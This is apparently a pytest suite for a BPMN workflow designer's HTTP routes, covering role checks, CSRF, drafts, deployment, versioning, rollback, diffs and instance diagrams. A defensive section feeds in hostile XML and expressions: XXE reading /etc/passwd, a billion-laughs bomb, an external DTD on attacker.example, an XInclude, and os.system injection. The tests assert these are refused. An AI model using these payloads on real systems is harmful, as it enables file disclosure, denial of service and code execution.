"""The designer over HTTP: who may use it, drafts, hostile uploads, validate, deploy, versions.

Process owner ``nakamura`` holds ``process_owner`` globally; everyone else — city approver
``tanaka``, contractor ``kobayashi``, administrator ``yamamoto`` — gets 403 on every route.
"""
from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
import sqlalchemy as sa
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from tests.helpers import open_task
from webapp import engine
from webapp.designer import diff
from webapp.extensions import db
from webapp.models import AuditEvent, ProcessDefinition, ProcessInstance
from webapp.models.designer import DesignDraft

COPYING = Path(__file__).resolve().parents[2] / "processes" / "copying_consent.bpmn"
KEY = "copying_consent"
BASE = f"/designer/{KEY}"


def shipped() -> str:
    return COPYING.read_text(encoding="utf-8")


def edited(name: str = "市の承諾審査（改訂）", due: str = "5bd") -> str:
    return shipped().replace('name="市の承諾審査"', f'name="{name}"') \
        .replace('<spiffworkflow:property name="due" value="3bd" />', f'<spiffworkflow:property name="due" value="{due}" />')


def token(client) -> str:
    return client.csrf_token("/inbox/")


def post_json(client, url: str, body: dict, *, csrf: bool = True):
    headers = {"X-CSRFToken": token(client)} if csrf else {}
    return client.post(url, data=json.dumps(body), content_type="application/json",
                       headers={**headers, "Accept": "application/json"})


def upload(client, data: bytes, name: str):
    """POST a file the way a browser does; the body is built in memory (the test client would
    otherwise spool a large body to a temporary file it never closes)."""
    boundary, body = encode_multipart({"csrf_token": token(client),
                                       "file": FileStorage(io.BytesIO(data), filename=name)})
    return client.post("/designer/upload", data=body, content_type=f"multipart/form-data; boundary={boundary}")


def count(model) -> int:
    db.session.expire_all()
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


def versions() -> list[ProcessDefinition]:
    db.session.expire_all()
    return list(db.session.scalars(sa.select(ProcessDefinition).where(ProcessDefinition.key == KEY)
                                   .order_by(ProcessDefinition.version)))


def request_data(world) -> dict:
    return {"kind": "copy", "assets": world.asset_ids(world.zei, "A-001"), "purpose": "検証のための複製",
            "copies": 1, "medium": "暗号化USBメモリ", "location": "サーバ室", "handlers": ["user:kobayashi"],
            "destruction_due": "2027-03-01"}


@pytest.fixture
def owner(client):
    client.login("nakamura")
    return client


@pytest.fixture
def owner_en(owner):
    """The process owner with the interface in English, for asserting on message text."""
    owner.submit("/auth/locale", {"locale": "en", "next": "/designer/"}, page="/designer/")
    return owner


# --- who may use the designer --------------------------------------------------------------------

GETS = ["/designer/", f"{BASE}/", f"{BASE}/edit", f"{BASE}/edit?version=1", f"{BASE}/diff?from=1&to=1",
        f"{BASE}/v1.bpmn"]
POSTS = ["/designer/upload", f"{BASE}/draft", f"{BASE}/draft/discard", f"{BASE}/validate", f"{BASE}/deploy",
         f"{BASE}/v1/rollback"]


def test_the_process_owner_reaches_every_page(owner):
    for url in GETS:
        assert owner.get(url).status_code == 200, url
    assert 'href="/designer/"' in owner.get("/inbox/").get_data(as_text=True)  # the navigation link


@pytest.mark.parametrize("username", ["tanaka", "kobayashi", "yamamoto"])
def test_everyone_else_gets_403_on_every_route(client, username):
    client.login(username)
    csrf = token(client)
    before = count(ProcessDefinition)
    for url in GETS:
        assert client.get(url).status_code == 403, url
    for url in POSTS:
        assert client.post(url, data={"csrf_token": csrf, "xml": shipped()}).status_code == 403, url
    assert 'href="/designer/"' not in client.get("/inbox/").get_data(as_text=True)
    assert count(ProcessDefinition) == before and count(DesignDraft) == 0


def test_anonymous_visitors_are_sent_to_login(client):
    for url in GETS:
        response = client.get(url)
        assert response.status_code == 302 and "/auth/login" in response.headers["Location"], url


def test_every_post_without_csrf_is_refused(owner):
    before = count(ProcessDefinition)
    for url in POSTS:
        assert owner.post(url, data={"xml": shipped(), "note": "x"}).status_code == 400, url
    assert post_json(owner, f"{BASE}/validate", {"xml": shipped()}, csrf=False).status_code == 400
    response = post_json(owner, f"{BASE}/deploy", {"xml": edited()}, csrf=False)
    assert response.status_code == 400 and response.get_json()["error"] == "csrf_failed"
    assert count(ProcessDefinition) == before and count(DesignDraft) == 0


# --- drafts -------------------------------------------------------------------------------------------

def test_a_draft_survives_reload_and_logout_and_is_personal(app, owner, world):
    page = owner.get(f"{BASE}/edit").get_data(as_text=True)
    assert 'id="designer-data"' in page and "市の承諾審査" in page
    saved = post_json(owner, f"{BASE}/draft", {"xml": edited("下書きの審査"), "base_version": 1})
    assert saved.status_code == 200 and saved.get_json()["ok"] is True
    owner.logout()
    owner.login("nakamura")
    page = owner.get(f"{BASE}/edit").get_data(as_text=True)
    assert "下書きの審査" in page
    assert "下書きの審査" not in owner.get(f"{BASE}/edit?version=1").get_data(as_text=True)
    draft = db.session.scalar(sa.select(DesignDraft))
    assert draft.user_id == world.users["nakamura"].id and draft.base_version == 1
    download = owner.get(f"{BASE}/draft.bpmn")
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert "下書きの審査" in download.get_data(as_text=True)
    # a second process owner does not see it
    from webapp import accounts

    accounts.create_user("owner2", "二人目", "Second-owner-2026", roles=["process_owner"])
    db.session.commit()
    owner.logout()
    owner.login("owner2", "Second-owner-2026")
    assert "下書きの審査" not in owner.get(f"{BASE}/edit").get_data(as_text=True)
    owner.logout()
    owner.login("nakamura")
    assert owner.submit(f"{BASE}/draft/discard", page=f"{BASE}/").status_code == 302
    assert count(DesignDraft) == 0


def test_a_draft_of_another_process_is_refused(owner):
    other = shipped().replace('id="copying_consent"', 'id="something_else"')
    response = post_json(owner, f"{BASE}/draft", {"xml": other})
    assert response.status_code == 400 and "something_else" in response.get_json()["message"]
    assert count(DesignDraft) == 0


# --- hostile files ---------------------------------------------------------------------------------

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d">
<bpmn:process id="copying_consent" name="&secret;" isExecutable="true"/></bpmn:definitions>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d">&lol3;</bpmn:definitions>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"/>"""
XINCLUDE = shipped().replace('<bpmn:documentation>対象', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                             'href="file:///etc/passwd" parse="text"/><bpmn:documentation>対象').encode()


@pytest.mark.parametrize("name, data, says", [
    ("xxe.bpmn", XXE, "DOCTYPE"),
    ("laughs.bpmn", LAUGHS, "DOCTYPE"),
    ("external.bpmn", EXTERNAL_DTD, "DOCTYPE"),
    ("big.bpmn", b"<x>" + b" " * (3 * 1024 * 1024) + b"</x>", "limit"),
    ("garbage.bpmn", b"\x00\x01 not xml at all", "well-formed"),
    ("other.xml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', "BPMN"),
    ("no_file.bpmn", None, ".bpmn"),
])
def test_hostile_uploads_are_refused_with_a_clear_message_and_nothing_is_stored(owner_en, name, data, says):
    before = count(ProcessDefinition)
    if data is None:
        response = owner_en.submit("/designer/upload", {}, page="/designer/")
    else:
        response = upload(owner_en, data, name)
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert says in html and "root:" not in html
    assert count(DesignDraft) == 0 and count(ProcessDefinition) == before


def test_a_process_id_deploy_would_refuse_is_not_stored_as_a_draft(owner_en):
    response = upload(owner_en, shipped().replace('"copying_consent"', '"copying-consent"').encode(), "dash.bpmn")
    assert response.status_code == 400
    assert "The process id &#39;copying-consent&#39; cannot be used" in response.get_data(as_text=True)
    assert count(DesignDraft) == 0
    assert owner_en.get("/designer/copying-consent/edit").status_code == 404


def test_a_50_mb_upload_is_refused_before_it_is_read(owner):
    response = upload(owner, b"<" + b"a" * (50 * 1024 * 1024) + b"/>", "huge.bpmn")
    assert response.status_code == 413
    assert count(DesignDraft) == 0


def test_hostile_xml_sent_to_validate_and_deploy_is_refused(owner_en):
    before = count(ProcessDefinition)
    for url in (f"{BASE}/validate", f"{BASE}/deploy", f"{BASE}/draft"):
        response = post_json(owner_en, url, {"xml": XXE.decode()})
        body = response.get_json()
        assert "DOCTYPE" in json.dumps(body, ensure_ascii=False), url
        assert body["ok"] is False and "root:" not in json.dumps(body)
    assert count(ProcessDefinition) == before and count(DesignDraft) == 0


def test_xinclude_is_never_resolved(owner):
    response = post_json(owner, f"{BASE}/validate", {"xml": XINCLUDE.decode()})
    assert "root:" not in response.get_data(as_text=True)


def test_hostile_expressions_are_refused_and_never_run(owner, tmp_path):
    marker = tmp_path / "pwned"
    xml = shipped().replace('>decision == "approve"<', f'>decision == "approve" and __import__("os").system("touch {marker}") == 0<') \
        .replace('value="purpose" />', 'value="open(&quot;/etc/passwd&quot;).read()" />')
    stored = upload(owner, xml.encode(), "evil.bpmn")
    assert stored.status_code == 302  # stored as a draft only: data, not code
    result = post_json(owner, f"{BASE}/validate", {"xml": xml}).get_json()
    by_element = {p["element_id"]: p["message"] for p in result["problems"]}
    assert result["ok"] is False
    assert "flow_approved" in by_element and "enter_copy_register" in by_element
    deploy = post_json(owner, f"{BASE}/deploy", {"xml": xml, "note": "evil"})
    assert deploy.status_code == 400 and len(versions()) == 1
    assert not marker.exists()


# --- validate ---------------------------------------------------------------------------------------

def test_validate_reports_each_problem_with_element_name_line_and_message(owner):
    ok = post_json(owner, f"{BASE}/validate", {"xml": edited()}).get_json()
    assert ok == {"ok": True, "problems": [], "message": ok["message"]}
    # An unknown handler, an unknown form, and a bypass of the approval: all listed at once.
    broken = shipped().replace('id="register_copy"', 'id="no_such_handler"') \
        .replace('value="common/decision.json"', 'value="common/missing.json"') \
        .replace('<bpmn:sequenceFlow id="flow_request_approve" sourceRef="request" targetRef="approve" />',
                 '<bpmn:sequenceFlow id="flow_request_approve" sourceRef="request" targetRef="gw_kind" />')
    result = post_json(owner, f"{BASE}/validate", {"xml": broken}).get_json()
    assert result["ok"] is False
    problems = {p["element_id"]: p for p in result["problems"]}
    assert set(problems) >= {"enter_copy_register", "approve"}
    register = problems["enter_copy_register"]
    assert register["name"] == "複製物台帳への登録" and isinstance(register["line"], int)
    messages = " ".join(p["message"] for p in result["problems"])
    assert "no_such_handler" in messages and "common/missing.json" in messages and "第3条第2号" in messages


def test_validate_flags_a_diagram_of_another_process(owner):
    other = shipped().replace('"copying_consent"', '"another_flow"')
    result = post_json(owner, f"{BASE}/validate", {"xml": other}).get_json()
    assert result["ok"] is False and "another_flow" in result["problems"][0]["message"]


# --- deploy, versions, rollback, diff ----------------------------------------------------------------------

def test_deploy_makes_v2_while_a_v1_request_finishes_on_v1(app, owner, world):
    old = engine.start(KEY, world.zei, request_data(world), world.users["kobayashi"])
    db.session.commit()
    refused = post_json(owner, f"{BASE}/deploy", {"xml": shipped().replace(
        '<spiffworkflow:property name="due" value="3bd" />', ""), "note": "no due"})
    assert refused.status_code == 400 and "approve" in {p["element_id"] for p in refused.get_json()["problems"]}
    response = post_json(owner, f"{BASE}/deploy", {"xml": edited(), "note": "審査名を変更し期限を5営業日に"})
    body = response.get_json()
    assert response.status_code == 200 and body == {**body, "ok": True, "created": True, "version": 2}
    v1, v2 = versions()
    assert v2.note == "審査名を変更し期限を5営業日に" and v2.deployed_by_id == world.users["nakamura"].id
    assert v2.meta["tasks"]["approve"]["due"] == "5bd" and v1.bpmn == COPYING.read_bytes()
    assert db.session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "process_deployed")
                             .order_by(AuditEvent.seq.desc()).limit(1)).detail["version"] == 2
    page = owner.get(f"{BASE}/").get_data(as_text=True)
    assert "審査名を変更し期限を5営業日に" in page and "中村" in page

    new = engine.start(KEY, world.zei, request_data(world), world.users["kobayashi"])
    db.session.commit()
    assert new.definition.version == 2 and open_task(new.id, "approve").title == "市の承諾審査（改訂）"
    old_task = open_task(old.id, "approve")
    assert old_task.title == "市の承諾審査"
    engine.complete(old_task.id, {"decision": "approve"}, world.users["tanaka"])
    db.session.commit()
    db.session.refresh(old)
    assert old.status == "completed" and old.definition.version == 1


def test_an_unchanged_diagram_is_not_a_new_version(owner):
    body = post_json(owner, f"{BASE}/deploy", {"xml": shipped()}).get_json()
    assert body["ok"] is True and body["created"] is False and len(versions()) == 1


def test_deploy_without_script_uses_the_form_and_shows_problems(owner):
    ok = owner.submit(f"{BASE}/deploy", {"xml": edited(), "note": "form"}, page=f"{BASE}/edit")
    assert ok.status_code == 302 and len(versions()) == 2
    bad = owner.submit(f"{BASE}/deploy", {"xml": edited().replace('name="city_approver"', 'name="mayor"')},
                       page=f"{BASE}/edit")
    assert bad.status_code == 400 and "mayor" in bad.get_data(as_text=True) and len(versions()) == 2


def test_deploying_clears_the_owners_draft(owner):
    post_json(owner, f"{BASE}/draft", {"xml": edited()})
    assert count(DesignDraft) == 1
    post_json(owner, f"{BASE}/deploy", {"xml": edited()})
    assert count(DesignDraft) == 0


def test_rollback_deploys_the_old_version_again_with_its_forms(owner):
    post_json(owner, f"{BASE}/deploy", {"xml": edited()})
    response = owner.submit(f"{BASE}/v1/rollback", {"note": "元に戻す"}, page=f"{BASE}/")
    assert response.status_code == 302
    v1, _v2, v3 = versions()
    assert v3.bpmn == v1.bpmn and v3.sha256 == v1.sha256 and v3.forms == v1.forms and v3.note == "元に戻す"
    assert engine.latest_version(KEY).version == 3


def test_diff_lists_what_changed(owner):
    post_json(owner, f"{BASE}/deploy", {"xml": edited()})
    html = owner.get(f"{BASE}/diff?from=1&to=2").get_data(as_text=True)
    assert "市の承諾審査" in html and "市の承諾審査（改訂）" in html and "3bd" in html and "5bd" in html
    assert html.count('class="diff-changed"') == 2  # name and due of one element
    assert owner.get(f"{BASE}/diff?from=1&to=9").status_code == 404
    assert owner.get(f"{BASE}/diff?from=9&to=2").status_code == 404


def test_download_is_an_attachment_with_the_stored_bytes(owner):
    response = owner.get(f"{BASE}/v1.bpmn")
    assert response.headers["Content-Disposition"] == "attachment; filename=copying_consent-v1.bpmn"
    assert response.data == versions()[0].bpmn
    assert owner.get(f"{BASE}/v9.bpmn").status_code == 404
    assert owner.get("/designer/no_such_flow/").status_code == 404
    assert owner.get("/designer/..%2Fetc/").status_code == 404


def test_a_new_flow_can_be_uploaded_validated_and_deployed(owner):
    xml = edited().replace('"copying_consent"', '"copying_consent_trial"').replace(
        'id="Participant_copying_consent" name="取扱い例外の承諾（第3条）" processRef="copying_consent_trial"',
        'id="Participant_copying_consent" name="試行" processRef="copying_consent_trial"')
    stored = upload(owner, xml.encode(), "trial.bpmn")
    assert stored.status_code == 302 and stored.headers["Location"].endswith("/designer/copying_consent_trial/edit")
    assert "copying_consent_trial" in owner.get("/designer/").get_data(as_text=True)
    body = post_json(owner, "/designer/copying_consent_trial/deploy", {"xml": xml}).get_json()
    assert body["ok"] is True and body["version"] == 1


# --- the diff itself ---------------------------------------------------------------------------------------

def test_diff_compare_reports_added_removed_and_changed_properties(app):
    old = versions()[0].meta
    new = json.loads(json.dumps(old))
    new["tasks"]["approve"]["separate_from"] = "request"
    new["services"]["enter_copy_register"]["params"]["copies"] = "copies + 1"
    new["flows"] = [f for f in new["flows"] if f["id"] != "flow_not_copy"]
    new["flows"][3]["condition"] = 'decision == "approve" and copies < 5'
    new["boundaries"]["approve"][0]["timer"] = 'deadline("2bd")'
    new["nodes"]["extra"] = {"type": "userTask", "name": "追加", "lane": "city_approver"}
    new["order"].append("extra")  # as parse.describe lists every node
    changes = {e.element_id: e for e in diff.compare(old, new)}
    assert changes["flow_not_copy"].status == "removed" and changes["extra"].status == "added"
    props = {c.prop: (c.old, c.new) for e in changes.values() if e.status == "changed" for c in e.changes}
    assert props["separate_from"] == ("", "request")
    assert props["parameter:copies"] == ("copies", "copies + 1")
    assert props["condition"][1] == 'decision == "approve" and copies < 5'
    assert props["timer"] == ('timeDate deadline("3bd")', 'timeDate deadline("2bd")')


# --- the instance diagram ----------------------------------------------------------------------------------

def test_instance_diagram_shows_the_path_taken(app, client, world, clock):
    instance = engine.start(KEY, world.zei, request_data(world), world.users["kobayashi"])
    db.session.commit()
    client.login("kobayashi")
    first = client.get(f"/records/{instance.id}/diagram.json").get_json()
    assert first["xml"].startswith("<?xml") and first["current"] == ["approve"]
    assert {"start", "request"} <= set(first["completed"]) and "approve" not in first["completed"]
    assert first["flows"] == ["flow_start_request", "flow_request_approve"]
    # Overdue: the reminder and escalation branches ran.
    clock.advance(days=10)
    engine.fire_due_timers(clock.now)
    db.session.commit()
    overdue = client.get(f"/records/{instance.id}/diagram.json").get_json()
    assert {"approve_overdue", "remind_approver", "approve_escalation", "escalate_supervisor"} <= set(overdue["completed"])
    engine.complete(open_task(instance.id, "approve").id, {"decision": "approve"}, world.users["tanaka"])
    db.session.commit()
    done = client.get(f"/records/{instance.id}/diagram.json").get_json()
    assert done["current"] == []
    assert {"approve", "gw_decision", "gw_kind", "enter_copy_register", "end_approved"} <= set(done["completed"])
    assert "notify_rejected" not in done["completed"] and "flow_not_copy" not in done["flows"]
    assert "flow_is_copy" in done["flows"] and "flow_send_back" not in done["flows"]
    assert client.get(f"/records/{instance.id}").status_code == 200
    client.logout()
    client.login("ito")  # another contract's contractor
    assert client.get(f"/records/{instance.id}/diagram.json").status_code == 404
    client.logout()
    assert client.get(f"/records/{instance.id}/diagram.json").status_code == 302


def test_instance_diagram_follows_a_send_back_loop(app, client, world):
    instance = engine.start(KEY, world.zei, request_data(world), world.users["kobayashi"])
    db.session.commit()
    engine.complete(open_task(instance.id, "approve").id, {"decision": "send_back", "comment": "再提出"},
                    world.users["tanaka"])
    db.session.commit()
    client.login("tanaka")
    diagram = client.get(f"/records/{instance.id}/diagram.json").get_json()
    assert diagram["current"] == ["request"] and "request" not in diagram["completed"]
    assert "flow_send_back" in diagram["flows"] and "approve" in diagram["completed"]
    assert "gw_kind" not in diagram["completed"]
    assert isinstance(db.session.get(ProcessInstance, instance.id).definition.meta, dict)
